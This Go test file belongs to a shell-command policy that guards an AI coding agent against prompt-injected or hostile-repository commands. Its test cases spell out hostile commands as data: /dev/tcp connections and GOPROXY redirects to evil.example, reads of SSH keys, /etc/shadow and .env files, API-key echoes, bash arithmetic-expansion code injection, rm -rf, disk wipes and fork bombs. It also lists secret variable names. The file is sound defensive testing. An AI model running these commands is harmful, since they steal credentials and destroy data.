package policy

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The attacks below were all allowed (or wrongly decided) before: each is
// what a prompt-injected model or a hostile repository gets the agent to
// run.

// TestExpansionsThatRunCode: bash evaluates arithmetic recursively, so an
// allowed echo ran id through an array subscript in a command's output.
func TestExpansionsThatRunCode(t *testing.T) {
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{`echo $(( $(echo 'a[$(id > F)]') ))`, Ask, "evaluates arithmetic"},
		{`echo ${a[$(echo 'b[$(id)]')]}`, Ask, "array subscript"},
		{"cat f; echo $(( $(cat f) ))", Ask, "evaluates arithmetic"},
		{"echo $((x))", Ask, "evaluates arithmetic"},
		{"echo $[x+1]", Ask, "evaluates arithmetic"},
		{"echo $((PATH=0))", Ask, "evaluates arithmetic"},
		{"echo $((i++))", Ask, "evaluates arithmetic"},
		{"echo ${a[i]}", Ask, "array subscript"},
		{`echo "${a[$n]}"`, Ask, "array subscript"},
		{"echo ${s:$n}", Ask, "offset"},
		{"echo ${s:1:$n}", Ask, "offset"},
		{"echo ${x:=foo}", Ask, "assigns to x"},
		{"echo ${x=foo}", Ask, "assigns to x"},
		{"echo ${PATH:=/tmp/evil}", Ask, "assigns to PATH"},
		{"echo ${!x}", Ask, "named by another"},
		{"echo ${x@P}", Ask, "prompt"},
		{"a[$(id)]=1 ls", Ask, "array"},
		{"a[0]=1 ls", Ask, "array"},
		{"cat <<EOF\n$((x))\nEOF", Ask, "evaluates arithmetic"},
		{"ls $((x)).txt", Ask, ""},
		// Provably inert: literal numbers only, or listing an array.
		{"echo $((1+2))", Allow, ""},
		{"echo $((0x1f * 2#101 - (3 % 2)))", Allow, ""},
		{"echo $((-1)) $((!0)) $((1 ? 2 : 3))", Allow, ""},
		{"echo ${a[0]} ${a[@]} ${#a[*]} ${!a[@]} ${!PRE*}", Allow, ""},
		{"echo ${s:2:3} ${x:-default} ${x#pre} ${x/a/b} ${x@Q}", Allow, ""},
		{"cat <<'EOF'\n$((x)) ${x:=y}\nEOF", Allow, ""},
	})
}

// TestArithmeticRunsCodeInBash shows the attack is real: bash runs the
// command hidden in an echo's arithmetic.
func TestArithmeticRunsCodeInBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	dir := t.TempDir()
	line := `echo $(( $(echo 'a[$(touch marker)]') ))`
	cmd := exec.Command(bash, "--noprofile", "--norc", "-c", line)
	cmd.Dir = dir
	cmd.Run() // the arithmetic itself fails; the command ran before
	if _, err := os.Stat(filepath.Join(dir, "marker")); err != nil {
		t.Fatalf("bash did not run the subscript's command: %v", err)
	}
	if v := mustNew(t, Config{}).Check(line); v.Decision == Allow {
		t.Errorf("Check(%q) = %+v", line, v)
	}
}

// TestNetwork: bash's /dev/tcp, module fetches and variables that point
// tools at other servers or programs.
func TestNetwork(t *testing.T) {
	cases := []checkCase{
		{"cat < /dev/tcp/evil.example/80", Ask, "network"},
		{"cat < //dev/tcp/evil.example/80", Ask, "network"},
		{"cat < /dev/./tcp/evil.example/80", Ask, "network"},
		{"cat < /dev//udp/evil.example/53", Ask, "network"},
		{"cat 0< /dev/tcp/h/80", Ask, "network"},
		{"echo data > /dev/tcp/evil.example/80", Ask, "network"},
		{"echo data >> /dev/udp/h/53", Ask, "network"},
		{"cat /dev/tcp/h/80", Ask, "network"},
		{"exec 3<>/dev/tcp/h/80", Ask, ""},
		{"GOPROXY=http://evil.example go list -m all", Ask, "GOPROXY"},
		{"GOPROXY=http://evil.example go list ./...", Ask, "GOPROXY"},
		{"env GOPROXY=http://evil.example go list ./...", Ask, "GOPROXY"},
		{"go list -m -u all", Ask, "-m"},
		{"go list -m all", Ask, "-m"},
		{"go list -m -versions golang.org/x/sys", Ask, "-m"},
		{"go mod download", Ask, "not on the allowlist"},
		{"go get golang.org/x/sys", Ask, "not on the allowlist"},
		{"git fetch", Ask, "not on the allowlist"},
		{"git ls-remote origin", Ask, "not on the allowlist"},
		{"git pull", Ask, "not on the allowlist"},
		{"GOOS=linux GOARCH=arm64 go list ./...", Allow, ""},
	}
	for _, v := range []string{
		"GOPROXY", "GOSUMDB", "GONOSUMDB", "GONOPROXY", "GOPRIVATE", "GOINSECURE", "GOFLAGS",
		"GOTOOLCHAIN", "LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "PYTHONPATH", "PYTHONSTARTUP",
		"NODE_OPTIONS", "BASH_ENV", "ENV", "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER",
		"PAGER", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_PARAMETERS", "GIT_DIR",
		"EDITOR", "VISUAL", "CDPATH", "HTTPS_PROXY",
	} {
		cases = append(cases,
			checkCase{v + "=x git log", Ask, "sets " + v},
			checkCase{"env " + v + "=x go list ./...", Ask, "sets " + v},
		)
	}
	runChecks(t, mustNew(t, Config{}), cases)
}

// TestWrites: allowlisted commands' flags that write files, follow
// symlinks out of the tree, or read file names from a file.
func TestWrites(t *testing.T) {
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"tree -R -H .", Ask, "-R"},
		{"tree -o out.txt", Ask, "-o"},
		{"tree -l", Ask, "-l"},
		{"sort -o out in", Ask, "-o"},
		{"sort --files0-from=names", Ask, "--files0-from"},
		{"wc --files0-from=names", Ask, "--files0-from"},
		{"du --files0-from=names", Ask, "--files0-from"},
		{"du -L .", Ask, "-L"},
		{"file -f names", Ask, "-f"},
		{"file --files-from names", Ask, "--files-from"},
		{"find . -fprint out", Ask, "-fprint"},
		{"find . -fprint0 out", Ask, "-fprint0"},
		{"find . -fprintf out %p", Ask, "-fprintf"},
		{"find . -fls out", Ask, "-fls"},
		{"find . -delete", Deny, reasonFile},
		{"find . -files0-from names", Ask, "-files0-from"},
		{"find -L .", Ask, "-L"},
		{"find . -follow", Ask, "-follow"},
		{"grep -R secret .", Ask, "-R"},
		{"grep --dereference-recursive x .", Ask, "dereference-recursive"},
		{"rg -L x", Ask, "-L"},
		{"rg --follow x", Ask, "--follow"},
		{"ag -f x", Ask, "-f"},
		{"ag --follow x", Ask, "--follow"},
		{"git diff --output=patch", Ask, "--output"},
		{"git diff --outp=patch", Ask, "--outp"},
		{"git log -p --ou patch", Ask, "--ou"},
		{"git show --output patch HEAD", Ask, "--output"},
		{"git log --ext", Ask, "--ext"},
		{"git diff --ext-diff", Ask, "--ext-diff"},
		// Still allowed.
		{"tree -H . -L 1", Allow, ""},
		{"grep -rn x .", Allow, ""},
		{"git log --oneline --output-indicator-new=+", Allow, ""},
		{"find . -name '*.go' -newer go.mod", Allow, ""},
	})
}

// TestSecrets: secrets must not reach the model's context unasked, and
// nothing is read outside the workspace.
func TestSecrets(t *testing.T) {
	root, home := testWorkspace(t)
	p := mustNew(t, Config{Root: root, Home: home})
	runChecks(t, p, []checkCase{
		{"echo $OPENAI_API_KEY", Ask, "OPENAI_API_KEY, which may hold a secret"},
		{`echo "key: $ANTHROPIC_API_KEY"`, Ask, "secret"},
		{"echo ${GITHUB_TOKEN}", Ask, "secret"},
		{"echo ${AWS_SECRET_ACCESS_KEY:0:4}", Ask, "secret"},
		{"echo $DB_PASSWORD", Ask, "secret"},
		{"echo $GOOGLE_APPLICATION_CREDENTIALS", Ask, "secret"},
		{"echo ${#NPM_TOKEN}", Ask, "secret"},
		{"cat <<EOF\n$HF_TOKEN\nEOF", Ask, "secret"},
		{"ls $(echo $SECRET_KEY)", Ask, ""},
		{"true $(echo $SECRET_KEY)", Ask, ""},
		{"env", Ask, "not on the allowlist"},
		{"env -0", Ask, ""},
		{"printenv", Ask, "not on the allowlist"},
		{"printenv OPENAI_API_KEY", Ask, ""},
		{"set", Ask, "not on the allowlist"},
		{"declare -p", Ask, ""},
		{"export -p", Ask, ""},
		{"typeset -p", Ask, ""},
		{"compgen -v", Ask, ""},
		{"echo $HOME $PWD", Allow, ""},
		// Files with secrets, in any spelling.
		{"cat ~/.ssh/id_rsa", Ask, "home directory"},
		{"cat " + home + "/.ssh/id_rsa", Ask, "dotfile in the home directory"},
		{"cat " + home + "/.aws/credentials", Ask, "secrets"},
		{"cat " + home + "/.config/gh/hosts.yml", Ask, "secrets"},
		{"cat " + home + "/.netrc", Ask, "secrets"},
		{"cat //etc/shadow", Ask, ""},
		{"cat /./etc/shadow", Ask, ""},
		{"cat /etc//shadow", Ask, ""},
		{"cat /proc/self/environ", Ask, ""},
		{"cat /proc/1/environ", Ask, ""},
		{"head -c 100 /proc/self/cmdline", Ask, ""},
		{"cat .netrc", Ask, "may hold secrets"},
		{"cat .env", Ask, "may hold secrets"},
		{"cat sub/.env.production", Ask, "may hold secrets"},
		{"cat .git/config", Ask, "credentials"},
		{"cat sub/.ssh/id_ed25519", Ask, "may hold secrets"},
		{"cat .e*", Ask, "secrets"},
		{"cat .env.example", Allow, ""},
		// Reads outside the workspace.
		{"cat " + home + "/notes.txt", Ask, "outside the workspace"},
		{"cat /usr/share/dict/words", Ask, "outside the workspace"},
		{"grep -r x /opt", Ask, "outside the workspace"},
		{"git -C /other status", Ask, "outside the workspace"},
		{"git -C " + home + " log", Ask, "outside the workspace"},
		{"env -C /etc cat shadow", Ask, "another directory"},
		{"env --chdir=/etc cat shadow", Ask, "another directory"},
		{"cd && cat .ssh/id_rsa", Ask, "home directory"},
		{"cd / && cat etc/shadow", Ask, "root directory"},
		{"cd - && cat x", Ask, "previous directory"},
		{"cd sub && cat ../../home/.netrc", Ask, ""},
		{"cat < " + home + "/notes.txt", Ask, "outside the workspace"},
		// Inside: allowed, absolute or relative, after a cd inside.
		{"cat " + root + "/go.mod", Allow, ""},
		{"cd sub && cat a.go && ls", Allow, ""},
		{"git -C sub status", Allow, ""},
		{"grep -rn '/api/v1' sub", Allow, ""},
		{"grep -e /etc/passwd -r sub", Allow, ""},
		{"grep -f /etc/shadow -r sub", Ask, ""},
		{"basename /tmp/x.go && dirname /usr/lib/x", Allow, ""},
		{"git log --grep=/api/ --format=%H/%s", Allow, ""},
		{"git blame --contents=" + home + "/notes.txt sub/a.go", Ask, "outside the workspace"},
		{"git blame --contents " + home + "/.netrc sub/a.go", Ask, "secrets"},
		{"git diff -O/etc/shadow", Ask, ""},
		{"git log -- " + home, Ask, "outside the workspace"},
		// bash reads the file itself in $(<file).
		{`echo "$(< ~/.ssh/id_rsa)"`, Ask, "home directory"},
		{`echo "$(< .env)"`, Ask, "secrets"},
		{"echo $(<" + home + "/notes.txt)", Ask, "outside the workspace"},
		{`echo "$(< go.mod)"`, Allow, ""},
	})

	// The shell is where an earlier line left it.
	for _, c := range []struct {
		dir, line string
		want      Decision
		reason    string
	}{
		{home, "cat .ssh/id_rsa", Ask, ""},
		{home, "ls", Ask, "outside the workspace"},
		{"/tmp", "cat x", Ask, "outside the workspace"},
		{"/", "cat etc/shadow", Ask, ""},
		{root + "/sub", "cat a.go", Allow, ""},
		{root + "/sub", "git status", Allow, ""},
		{home, "echo hi", Allow, ""},
	} {
		got := p.CheckIn(c.dir, c.line)
		if got.Decision != c.want || !strings.Contains(got.Reason, c.reason) {
			t.Errorf("CheckIn(%q, %q) = %+v, want %s holding %q", c.dir, c.line, got, c.want, c.reason)
		}
	}
}

// TestSymlinksOutOfTheWorkspace: a repository ships symlinks to the
// user's secrets under harmless names.
func TestSymlinksOutOfTheWorkspace(t *testing.T) {
	root, home := testWorkspace(t)
	for link, target := range map[string]string{
		"notes.txt": home + "/.ssh/id_rsa",
		"docs":      home + "/.ssh",
		"elsewhere": home,
		"up.txt":    home + "/notes.txt",
	} {
		if err := os.Symlink(target, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	runChecks(t, mustNew(t, Config{Root: root, Home: home}), []checkCase{
		{"cat notes.txt", Ask, "symlink"},
		{"head -5 docs/id_rsa", Ask, "secrets"},
		{"head -5 docs/config", Ask, "symlink"},
		{"cat docs/*", Ask, "secrets"},
		{"cat docs/c*", Ask, "symlink"},
		{"cat *.txt", Ask, "symlink"},
		{"cat up.txt", Ask, "outside the workspace"},
		{"cd elsewhere && cat .netrc", Ask, ""},
		{"cd docs && ls", Ask, ""},
		{"grep -r x docs", Ask, "symlink"},
		{"cat < notes.txt", Ask, "symlink"},
		{"cat go.mod sub/a.go", Allow, ""},
		{"cat s*/*.go", Allow, ""},
	})
}

// TestUnparseable: bash's eval runs the statements before a syntax error,
// so a denied one stays denied whatever follows it.
func TestUnparseable(t *testing.T) {
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"rm -rf ~\n)", Deny, reasonFile},
		{"rm -rf ~\n)", Deny, "does not parse"},
		{"git reset --hard; echo 'unterminated", Deny, reasonGit},
		{")\nrm -rf /", Deny, reasonFile},
		{"ls && (\ngit push -f", Deny, reasonGit},
		{"bash -c 'rm -rf /\n)'", Deny, reasonFile},
		{"echo 'unterminated", Ask, "cannot parse"},
		{"ls\n)", Ask, "cannot parse"},
	})
}

// TestFalseDecisions: a commit message is not a flag; bytes that are not
// UTF-8 are ordinary characters to bash.
func TestFalseDecisions(t *testing.T) {
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"git commit -m '-a is now the default'", Ask, "not on the allowlist"},
		{"git commit -m -am", Ask, ""},
		{"git commit --message -a", Ask, ""},
		{"git commit -F -a", Ask, ""},
		{"git commit -m x -- -a", Ask, ""},
		{"git commit -a -m x", Deny, reasonBulkGit},
		{"git commit -m x -a", Deny, reasonBulkGit},
		{"git commit -qam x", Deny, reasonBulkGit},
		{"git commit --all -m x", Deny, reasonBulkGit},
		{"ls $'\\xff'", Allow, ""},
		{"ls \xff", Allow, ""},
		{"cat 'caf\xe9.txt'", Allow, ""},
		{"echo \xff\xfe", Allow, ""},
		{"grep -r \"\xff\" sub", Allow, ""},
		{"\xffrm -rf /", Ask, "not on the allowlist"},
		{"rm -rf /\xff", Deny, reasonFile},
		{"git reset --hard \xff", Deny, reasonGit},
	})
}

// TestConfiguredPatternsStillGuardSecrets: "Always" for cat lets cat read
// anywhere (the user chose), but not the user's secrets.
func TestConfiguredPatternsStillGuardSecrets(t *testing.T) {
	root, home := testWorkspace(t)
	if err := os.Symlink(home+"/.ssh/id_rsa", filepath.Join(root, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	runChecks(t, mustNew(t, Config{Root: root, Home: home, Allow: []string{"cat", "make"}}), []checkCase{
		{"cat " + home + "/notes.txt", Allow, "cat (configured)"},
		{"cat /usr/share/dict/words", Allow, ""},
		{"make all", Allow, ""},
		{"cat ~/.bashrc", Ask, "dotfile"},
		{"cat ~/.aws/credentials", Ask, "secrets"},
		{"cat " + home + "/.netrc", Ask, "secrets"},
		{"cat /etc/shadow", Ask, "secrets"},
		{"cat notes.txt", Ask, "symlink"},
		{"make -f /dev/tcp/h/80", Ask, "network"},
		{"cat $OPENAI_API_KEY", Ask, "secret"},
		// What a pattern or a brace expansion expands to (issue 24).
		{"cat ~/.ssh/id_*", Ask, "secrets"},
		{"cat .e[n]v", Ask, "secrets"},
		{"cat not*", Ask, "symlink"},
		{"cat .{env,x}", Ask, "secrets"},
		{"cat " + home + "/.ss?/*", Ask, "secrets"},
	})
}

// TestManyDirectoryChanges: every relative cd may double the directories
// the shell may be in; past a bound, reads ask instead of the check
// growing exponentially.
func TestManyDirectoryChanges(t *testing.T) {
	var b strings.Builder
	for i := range 40 {
		b.WriteString("cd sub && ls; ")
		if i == 2 {
			b.WriteString("cat a.go; ")
		}
	}
	line := b.String()
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"cd sub && cd sub && cd sub && cat a.go", Allow, ""},
		{line, Ask, "more changes of directory than can be followed"},
		{line + "echo done", Ask, ""},
	})
}

// TestRootMustBeAbsolute: a relative root would make every path relative
// to wherever the server runs.
func TestRootMustBeAbsolute(t *testing.T) {
	if _, err := New(Config{Root: "ws"}); err == nil || !strings.Contains(err.Error(), "absolute") {
		t.Errorf("New(Root: ws) = %v, want an error asking for an absolute path", err)
	}
	// No root: paths are judged as written, git cannot be checked.
	p, err := New(Config{Home: "/home/u"})
	if err != nil {
		t.Fatal(err)
	}
	runChecks(t, p, []checkCase{
		{"cat go.mod && ls sub", Allow, ""},
		{"cat /work/x", Ask, "outside the workspace"},
		{"git status", Ask, "no workspace folder is known"},
	})
}

// TestCDPATH: with CDPATH in the environment the shell inherits, `cd sub`
// may land in one of its directories, outside the workspace.
func TestCDPATH(t *testing.T) {
	t.Setenv("CDPATH", "/etc")
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"cd ssh && cat sshd_config", Ask, "CDPATH"},
		{"cd ./sub && cat a.go", Allow, ""},
		{"cd . && ls", Allow, ""},
	})
}

// TestDestructiveCommandsRefused: commands that destroy what cannot be
// got back were put to the user like any other (issue 24); they are
// refused, in their usual spellings and behind wrappers.
func TestDestructiveCommandsRefused(t *testing.T) {
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"git checkout -- .", Deny, reasonDiscard},
		{"git checkout .", Deny, reasonDiscard},
		{"git checkout HEAD -- .", Deny, reasonDiscard},
		{"git checkout -- :/", Deny, reasonDiscard},
		{"git checkout -f", Deny, reasonDiscard},
		{"git checkout --force main", Deny, reasonDiscard},
		{"git switch --discard-changes main", Deny, reasonDiscard},
		{"git switch -f main", Deny, reasonDiscard},
		{"git restore .", Deny, reasonDiscard},
		{"git restore -- .", Deny, reasonDiscard},
		{"git restore --worktree --staged .", Deny, reasonDiscard},
		{"git restore -s HEAD~3 -- '*'", Deny, reasonDiscard},
		{"git -C sub restore ./", Deny, reasonDiscard},
		{"kill -9 -1", Deny, reasonKill},
		{"kill -KILL -1", Deny, reasonKill},
		{"kill -s KILL -1", Deny, reasonKill},
		{"kill -- -1", Deny, reasonKill},
		{"kill -9 0", Deny, reasonKill},
		{"sudo kill -9 -1", Deny, reasonKill},
		{"/bin/kill -TERM -1", Deny, reasonKill},
		{"dd if=/dev/zero of=/dev/sda", Deny, reasonDisk},
		{"dd of=/dev/nvme0n1 bs=1M if=x.img", Deny, reasonDisk},
		{"sudo dd if=x.iso of=/dev/disk2", Deny, reasonDisk},
		{"cat x.img > /dev/sda", Deny, reasonDisk},
		{"echo x > /dev/sd{a,}", Deny, reasonDisk},
		{"mkfs.ext4 /dev/sdb1", Deny, reasonDisk},
		{"mkfs -t vfat /dev/sdc", Deny, reasonDisk},
		{"sudo mke2fs /dev/sdb", Deny, reasonDisk},
		{"wipefs -a /dev/sdb", Deny, reasonDisk},
		{":(){ :|:& };:", Deny, reasonForkBomb},
		{":(){ :|: & };:", Deny, reasonForkBomb},
		{"bomb() { bomb | bomb & }; bomb", Deny, reasonForkBomb},
		{"function f { f & f & }; f", Deny, reasonForkBomb},
		{"crontab -r", Deny, reasonCrontab},
		{"crontab -u root -r", Deny, reasonCrontab},
		{"crontab -ir", Deny, reasonCrontab},
		{"mv ~ /dev/null", Deny, reasonFile},
		{"mv x /dev/null", Deny, reasonFile},
		{"mv ~/ /tmp/x", Deny, reasonFile},
		{"mv $HOME /tmp/x", Deny, reasonFile},
		{"mv / /x", Deny, reasonFile},
		{"mv /usr /tmp/usr", Deny, reasonFile},
		{"mv . ../x", Deny, reasonFile},
		{"mv -t /dev/null x", Deny, reasonFile},
		{"find . -delete", Deny, reasonFile},
		{"find . -type f -delete", Deny, reasonFile},
		{"find -delete", Deny, reasonFile},
		{"find ~ -name '*.go' -delete", Deny, reasonFile},
		{"find / -name x -delete", Deny, reasonFile},
		{"find . -exec rm {} +", Deny, reasonFile},
		{"find . -type f -exec rm -f {} \\;", Deny, reasonFile},
		{"find . -execdir /bin/rm {} \\;", Deny, reasonFile},
		{"find . -ok rm {} \\;", Deny, reasonFile},
		// Still asked: narrow, reversible or harmless.
		{"git checkout main", Ask, "not on the allowlist"},
		{"git checkout -- main.go", Ask, ""},
		{"git checkout -b feature", Ask, ""},
		{"git restore main.go", Ask, ""},
		{"git restore --staged .", Ask, ""},
		{"kill 1234", Ask, ""},
		{"kill -9 1234", Ask, ""},
		{"kill -l", Ask, ""},
		{"dd if=/dev/zero of=disk.img bs=1M count=1", Ask, ""},
		{"dd if=x of=/dev/null", Ask, ""},
		{"crontab -l", Ask, ""},
		{"mv a.go b.go", Ask, ""},
		{"mv ~/x.txt .", Ask, ""},
		{"mv /usr/local/x /tmp/y", Ask, ""},
		{"find . -name '*.pyc' -delete", Ask, "-delete"},
		{"find build -name '*.o' -exec rm {} +", Ask, "-exec"},
		{"f() { f; }", Ask, "function"},
		{"echo x > /dev/stderr", Allow, ""},
	})
}

// TestSecretVariableNames: variables that hold secrets under names the
// policy did not recognise (issue 24), and the usual ones it must not
// take for secrets.
func TestSecretVariableNames(t *testing.T) {
	for _, name := range []string{
		"MONGODB_URI", "REDIS_URL", "DB_PASS", "MYSQL_PWD", "SLACK_WEBHOOK_URL", "HTTPS_PROXY",
		"https_proxy", "HTTP_PROXY", "ALL_PROXY", "CI_JOB_JWT", "CI_JOB_JWT_V2", "DOCKER_AUTH_CONFIG",
		"NPM_AUTH", "BASIC_AUTH", "JWT", "PASS", "AUTH", "DATABASE_URL", "SENTRY_DSN", "AMQP_URL",
		"CI_REPOSITORY_URL", "OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD",
		"GOOGLE_APPLICATION_CREDENTIALS", "NPM_TOKEN", "GH_PAT", "AZURE_STORAGE_CONNECTION_STRING",
		"DISCORD_WEBHOOK", "SSH_AUTH_SOCK", "AUTH_HEADER", "SESSION_KEY", "PGPASSWORD", "db_pass",
	} {
		if !secretVariable(name) {
			t.Errorf("secretVariable(%q) = false, want true", name)
		}
	}
	for _, name := range []string{
		"HOME", "PATH", "PWD", "OLDPWD", "GOPATH", "GOROOT", "SHELL", "USER", "LANG", "TERM", "GOOS",
		"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "XAUTHORITY", "COMPASS_DIR", "PASSES", "HOSTNAME",
		"GITHUB_SERVER_URL", "CI_PROJECT_URL", "EDITOR", "PAGER", "TMPDIR", "LOGNAME", "DISPLAY",
		"KEYBOARD_LAYOUT", "CI", "GITHUB_SHA", "PS1", "HISTFILE", "MANPATH", "URLS_DIR", "NO_PROXY",
		"no_proxy", "XDG_SESSION_TYPE",
	} {
		if secretVariable(name) {
			t.Errorf("secretVariable(%q) = true, want false", name)
		}
	}
	runChecks(t, mustNew(t, Config{}), []checkCase{
		{"echo $MONGODB_URI", Ask, "MONGODB_URI, which may hold a secret"},
		{`echo "${REDIS_URL}"`, Ask, "REDIS_URL"},
		{"echo $MYSQL_PWD", Ask, "secret"},
		{"cat <<EOF\n$CI_JOB_JWT\nEOF", Ask, "secret"},
		{"echo $PWD $OLDPWD $HOME $PATH $GOPATH", Allow, ""},
	})
}

// TestWindowsAliasesOfSecrets: on Windows and on case-insensitive file
// systems (macOS) these names are .git/config, .env and ~/.ssh (issue 24).
func TestWindowsAliasesOfSecrets(t *testing.T) {
	root, home := testWorkspace(t)
	runChecks(t, mustNew(t, Config{Root: root, Home: home}), []checkCase{
		{"cat .git./config", Ask, "credentials"},
		{"cat '.git /config'", Ask, "credentials"},
		{"cat .GIT/config", Ask, "credentials"},
		{"cat .Git/CONFIG", Ask, "credentials"},
		{"cat GIT~1/config", Ask, "credentials"},
		{"cat .git::\\$INDEX_ALLOCATION/config", Ask, "credentials"},
		{"cat .ENV", Ask, "secrets"},
		{"cat .env.", Ask, "secrets"},
		{"cat '.env '", Ask, "secrets"},
		{"cat .env::\\$DATA", Ask, "secrets"},
		{"cat .Env.Production", Ask, "secrets"},
		{"cat sub/.SSH/id_rsa", Ask, "secrets"},
		{"cat sub/.ssh./x", Ask, "secrets"},
		{"cat ID_RSA", Ask, "secrets"},
		{"cat id_rsa.", Ask, "secrets"},
		{"cat .NETRC", Ask, "secrets"},
		{"cat /ETC/SHADOW", Ask, ""},
		// Names that are no alias.
		{"cat .env.Example", Allow, ""},
		{"cat Config", Allow, ""},
		{"cat sub/a.go", Allow, ""},
		{"cat ...", Allow, ""},
	})
}
